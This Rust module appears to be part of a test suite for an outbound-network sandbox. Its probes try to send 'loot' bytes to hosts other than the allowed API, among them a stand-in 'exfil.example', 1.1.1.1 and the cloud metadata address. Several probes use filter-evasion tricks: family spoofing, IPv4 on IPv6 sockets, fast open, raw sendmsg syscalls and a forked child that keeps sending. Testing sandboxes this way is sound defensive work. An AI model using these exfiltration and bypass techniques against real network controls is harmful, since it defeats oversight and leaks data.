//! Roads out that are not the allowed one: addresses and ways to send to them.

use std::net::{SocketAddr, ToSocketAddrs};
use std::os::fd::RawFd;

use nix::errno::Errno;

use crate::raw::{self, At, bytes_of, connect, hear, send, send_to, socket, syscall};
use crate::{Probe, Told};

pub(crate) const STREAM: i32 = libc::SOCK_STREAM;
pub(crate) const DGRAM: i32 = libc::SOCK_DGRAM;
pub(crate) const ALLOWED: &str = "api.together.xyz";
/// What is smuggled out.
pub(crate) const LOOT: &[u8] = b"loot";
const OUT: &str = "1.1.1.1:443";

pub(crate) const PROBES: &[(&str, Probe)] = &[
    ("rest", |_| Ok(String::new())),
    ("tcp-literal", |_| tcp(libc::AF_INET, 0, OUT)),
    ("tcp-other-name", |_| tcp_name("exfil.example", 443)),
    ("tcp-other-port", |_| tcp_name(ALLOWED, 8443)),
    ("tcp-mapped", |_| tcp(libc::AF_INET6, 0, "[::ffff:1.1.1.1]:443")),
    ("tcp-v6", |_| tcp(libc::AF_INET6, 0, "[2001:db8::53]:443")),
    ("tcp-metadata", |_| tcp(libc::AF_INET, 0, "169.254.169.254:80")),
    ("tcp-private", |_| tcp(libc::AF_INET, 0, "10.0.0.5:80")),
    ("tcp-to", |address| tcp(if address.contains('[') { libc::AF_INET6 } else { libc::AF_INET }, 0, address)),
    ("tcp-mptcp", |_| tcp(libc::AF_INET, libc::IPPROTO_MPTCP, OUT)),
    ("tcp-fastopen", |_| fastopen(OUT)),
    ("tcp-fastopen-connect", |_| fastopen_connect(OUT)),
    ("tcp-bound-to-device", |_| bound_to_device(OUT)),
    ("tcp-bound-to-source", |_| bound_to_source("203.0.113.10:0", OUT)),
    ("tcp-late", |_| late(OUT)),
    ("udp-sendto", |_| udp(libc::AF_INET, OUT, LOOT)),
    ("udp-sendmsg", |_| udp_sendmsg(OUT)),
    ("udp-sendmmsg", |_| udp_sendmmsg(OUT)),
    ("udp-connected", |_| udp_connected(OUT)),
    ("udp-unspec", |_| udp_unspec(OUT)),
    ("udp-reconnected", |_| udp_reconnected(OUT)),
    ("udp-v4-on-v6", |_| udp_v4_on_v6(OUT)),
    ("udp-mapped", |_| udp(libc::AF_INET6, "[::ffff:1.1.1.1]:443", LOOT)),
    ("udp-v6", |_| udp(libc::AF_INET6, "[2606:4700:4700::1111]:53", LOOT)),
    ("udp-to", |address| udp(libc::AF_INET, address, LOOT)),
    ("quic-allowed-host", |_| quic()),
    ("listen-tcp", |_| listen("0.0.0.0:7777")),
    ("connect-forever", |_| connect_forever(OUT)),
];

fn literal(address: &str) -> SocketAddr {
    address.parse().expect("a literal of the suite")
}

pub(crate) fn tcp(family: i32, protocol: i32, address: &str) -> Told {
    tcp_to(family, protocol, literal(address))
}

fn tcp_to(family: i32, protocol: i32, address: SocketAddr) -> Told {
    let fd = socket(family, STREAM, protocol)?;
    speak(fd, address)
}

fn speak(fd: RawFd, address: SocketAddr) -> Told {
    connect(fd, &bytes_of(address))?;
    send(fd, LOOT)?;
    Ok(hear(fd))
}

pub(crate) fn lookup(name: &str, port: u16) -> Result<SocketAddr, raw::Failure> {
    let mut addresses = (name, port).to_socket_addrs().at("getaddrinfo")?;
    addresses.next().ok_or(Errno::ENXIO).at("getaddrinfo")
}

fn tcp_name(name: &str, port: u16) -> Told {
    tcp_to(libc::AF_INET, 0, lookup(name, port)?)
}

fn fastopen(address: &str) -> Told {
    let fd = socket(libc::AF_INET, STREAM, 0)?;
    send_to(fd, LOOT, &bytes_of(literal(address)), libc::MSG_FASTOPEN | libc::MSG_NOSIGNAL)?;
    Ok(hear(fd))
}

/// Connects without a packet, and sends with the first write: the hook of connect(2) sees it, the wire does not yet.
fn fastopen_connect(address: &str) -> Told {
    let fd = socket(libc::AF_INET, STREAM, 0)?;
    option(fd, libc::IPPROTO_TCP, libc::TCP_FASTOPEN_CONNECT, &1i32.to_ne_bytes())?;
    speak(fd, literal(address))
}

fn bound_to_device(address: &str) -> Told {
    let fd = socket(libc::AF_INET, STREAM, 0)?;
    option(fd, libc::SOL_SOCKET, libc::SO_BINDTODEVICE, b"lo\0")?;
    speak(fd, literal(address))
}

fn bound_to_source(source: &str, address: &str) -> Told {
    let fd = socket(libc::AF_INET, STREAM, 0)?;
    let source = bytes_of(literal(source));
    // SAFETY: the address is live and its length is given.
    Errno::result(unsafe { libc::bind(fd, source.as_ptr().cast(), source.len() as libc::socklen_t) }).at("bind")?;
    speak(fd, literal(address))
}

/// Many times, in case a hook is slower than a client.
fn late(address: &str) -> Told {
    let mut last = Ok(String::new());
    for _ in 0..200 {
        let fd = socket(libc::AF_INET, STREAM | libc::SOCK_NONBLOCK, 0)?;
        last = connect(fd, &bytes_of(literal(address))).map(|()| String::new());
        // SAFETY: a descriptor of our own.
        unsafe { libc::close(fd) };
    }
    match last {
        Err(failure) if failure.is(Errno::EINPROGRESS) => Ok("under way".into()),
        other => other,
    }
}

/// Connects again and again, for as long as somebody lets it, while a child does the talking with the host.
fn connect_forever(address: &str) -> Told {
    // SAFETY: this program is single-threaded.
    if let nix::unistd::ForkResult::Child = unsafe { nix::unistd::fork() }.at("fork")? {
        let _ = nix::unistd::setsid();
        let begun = std::time::Instant::now();
        while begun.elapsed().as_secs() < 8 {
            let _ = udp(libc::AF_INET, address, LOOT).map(drop);
            if let Ok(fd) = socket(libc::AF_INET, STREAM | libc::SOCK_NONBLOCK, 0) {
                let _ = connect(fd, &bytes_of(literal(address)));
                // SAFETY: a descriptor of our own.
                unsafe { libc::close(fd) };
            }
        }
        // SAFETY: ends this child at once.
        unsafe { libc::_exit(0) }
    }
    Ok("spinning".into())
}

pub(crate) fn option(fd: RawFd, level: i32, name: i32, value: &[u8]) -> Result<(), raw::Failure> {
    // SAFETY: the value is live and its length is given.
    let outcome = unsafe { libc::setsockopt(fd, level, name, value.as_ptr().cast(), value.len() as libc::socklen_t) };
    Errno::result(outcome).map(drop).at("setsockopt")
}

pub(crate) fn udp(family: i32, address: &str, data: &[u8]) -> Told {
    let fd = socket(family, DGRAM, 0)?;
    let sent = send_to(fd, data, &bytes_of(literal(address)), 0);
    if sent.is_err() {
        // SAFETY: a descriptor of our own.
        unsafe { libc::close(fd) };
    }
    sent.map(|()| "sent".into())
}

/// A message of one part to `address`, whose bytes must outlive it.
fn message(address: &mut [u8], part: &mut libc::iovec) -> libc::msghdr {
    // SAFETY: all of msghdr may be zero.
    let mut message: libc::msghdr = unsafe { std::mem::zeroed() };
    message.msg_name = address.as_mut_ptr().cast();
    message.msg_namelen = address.len() as libc::socklen_t;
    message.msg_iov = part;
    message.msg_iovlen = 1;
    message
}

fn udp_sendmsg(address: &str) -> Told {
    let fd = socket(libc::AF_INET, DGRAM, 0)?;
    let mut address = bytes_of(literal(address));
    let mut part = libc::iovec { iov_base: LOOT.as_ptr().cast_mut().cast(), iov_len: LOOT.len() };
    let message = message(&mut address, &mut part);
    syscall(libc::SYS_sendmsg, [fd as usize, &raw const message as usize, 0, 0, 0, 0]).at("sendmsg")?;
    Ok("sent".into())
}

fn udp_sendmmsg(address: &str) -> Told {
    let fd = socket(libc::AF_INET, DGRAM, 0)?;
    let mut address = bytes_of(literal(address));
    let mut part = libc::iovec { iov_base: LOOT.as_ptr().cast_mut().cast(), iov_len: LOOT.len() };
    let one = libc::mmsghdr { msg_hdr: message(&mut address, &mut part), msg_len: 0 };
    let two = [one, one];
    syscall(libc::SYS_sendmmsg, [fd as usize, two.as_ptr() as usize, 2, 0, 0, 0]).at("sendmmsg")?;
    Ok("sent".into())
}

fn udp_connected(address: &str) -> Told {
    let fd = socket(libc::AF_INET, DGRAM, 0)?;
    connect(fd, &bytes_of(literal(address)))?;
    send(fd, LOOT)?;
    Ok("sent".into())
}

/// AF_UNSPEC in an IPv4 address is taken for AF_INET by sendto(2), and passes a hook that looks at the family.
fn udp_unspec(address: &str) -> Told {
    let fd = socket(libc::AF_INET, DGRAM, 0)?;
    let mut address = bytes_of(literal(address));
    address[..2].fill(0);
    send_to(fd, LOOT, &address, 0)?;
    Ok("sent".into())
}

/// Connected to where it may, disconnected, then sent elsewhere.
fn udp_reconnected(address: &str) -> Told {
    let fd = socket(libc::AF_INET, DGRAM, 0)?;
    // Whether this connects does not matter: the second one does.
    let _ = connect(fd, &bytes_of(literal("127.0.0.1:9")));
    let _ = connect(fd, &[0; 16]);
    connect(fd, &bytes_of(literal(address)))?;
    send(fd, LOOT)?;
    Ok("sent".into())
}

/// An IPv4 address handed to an IPv6 socket: the kernel takes it, past the IPv6 hook.
fn udp_v4_on_v6(address: &str) -> Told {
    let fd = socket(libc::AF_INET6, DGRAM, 0)?;
    send_to(fd, LOOT, &bytes_of(literal(address)), 0)?;
    Ok("sent".into())
}

fn quic() -> Told {
    let fd = socket(libc::AF_INET, DGRAM, 0)?;
    send_to(fd, LOOT, &bytes_of(lookup(ALLOWED, 443)?), 0)?;
    Ok("sent".into())
}

fn listen(address: &str) -> Told {
    let fd = socket(libc::AF_INET, STREAM, 0)?;
    option(fd, libc::SOL_SOCKET, libc::SO_REUSEADDR, &1i32.to_ne_bytes())?;
    let address = bytes_of(literal(address));
    // SAFETY: the address is live and its length is given.
    Errno::result(unsafe { libc::bind(fd, address.as_ptr().cast(), address.len() as libc::socklen_t) }).at("bind")?;
    // SAFETY: a descriptor of our own.
    Errno::result(unsafe { libc::listen(fd, 8) }).at("listen")?;
    Ok("listens".into())
}
